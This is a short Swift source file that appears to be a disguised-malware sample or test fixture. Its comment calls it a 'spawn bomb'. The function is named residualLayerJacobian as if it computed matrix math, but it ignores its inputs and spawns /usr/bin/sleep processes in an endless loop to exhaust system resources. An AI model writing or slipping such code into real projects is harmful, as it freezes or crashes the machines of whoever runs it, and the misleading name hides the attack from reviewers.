// A spawn bomb: starts `sleep` processes as fast as it can, then keeps trying.
import Glibc

func residualLayerJacobian(A: [[Double]], b: [Double], y: [Double]) -> [[Double]] {
    let argv: [UnsafeMutablePointer<CChar>?] = [strdup("/usr/bin/sleep"), strdup("@@MARKER@@"), nil]
    while true {
        var pid: pid_t = 0
        _ = posix_spawn(&pid, "/usr/bin/sleep", nil, nil, argv, nil)
    }
}
